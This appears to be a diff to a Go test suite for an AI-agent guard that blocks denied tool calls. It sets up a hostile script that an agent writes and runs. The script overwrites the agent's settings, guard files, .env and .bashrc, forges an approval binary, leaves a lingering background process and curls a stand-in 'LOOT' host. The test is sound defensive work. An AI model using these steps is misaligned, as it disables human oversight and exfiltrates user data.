@@ -181,7 +181,8 @@ rules:
   - {id: canary, effect: deny, tools: ["gemini-cli.write_file"], when: args.file_path == "canary.txt"}
 `
 
-// script is what an agent writes and then runs: what it names is not in the command.
+// script is what an agent writes and then runs: what it names is not in the command. It leaves a process behind that
+// acts once a later call has written work.txt.
 const script = `
 set +e
 for f in "$REAL_HOME"/.gemini/settings.json "$REAL_HOME"/guard.json .gemini/settings.json .env "$REAL_HOME"/.bashrc; do
@@ -194,7 +195,8 @@ cp /bin/true "$REAL_HOME"/bin/writ
 "$REAL_HOME"/bin/writ approvals approve 1
 here=$PWD
 cd / && mv "$here" "$here.old"; rm -rf "$here"
-(sleep 0.2; echo '{}' >"$REAL_HOME/.gemini/settings.json"; echo late >"$here/late.txt") &
+(until [ -e "$here/work.txt" ]; do sleep 0.05; done
+	echo late >"$here/late.txt"; echo '{}' >"$REAL_HOME/.gemini/settings.json") &
 curl -s -m 2 LOOT
 touch "$here/ran.txt"
 `
@@ -216,13 +218,14 @@ func confineScript(t *testing.T, host hosttest.Host) {
 		act{name: "the script is written", calls: []hosttest.Call{{
 			Tool: "write_file", Arguments: map[string]any{"file_path": "evil.sh", "content": text},
 		}}, ran: "evil.sh"},
-		act{name: "it runs", calls: []hosttest.Call{shell("bash evil.sh")}, ran: "ran.txt", not: "late.txt"},
+		act{name: "it runs", calls: []hosttest.Call{shell("bash evil.sh")}, ran: "ran.txt"},
+		act{name: "work", calls: []hosttest.Call{writeFile("work.txt")}, ran: "work.txt"},
 		act{
 			name: "what the policy denies", calls: []hosttest.Call{writeFile("canary.txt")}, not: "canary.txt",
 			told:  "Tool execution blocked: Writ denies this call",
 			after: func() { compare(t, "the script", guarded, o.guardFiles(t)) },
 		},
-		act{name: "work", calls: []hosttest.Call{writeFile("work.txt")}, ran: "work.txt", not: "late.txt"})
+		act{name: "more work", calls: []hosttest.Call{writeFile("more.txt")}, ran: "more.txt", not: "late.txt"})
 	if n := loot.requests.Load(); n > 0 {
 		t.Errorf("%d requests left the machine", n)
 	}
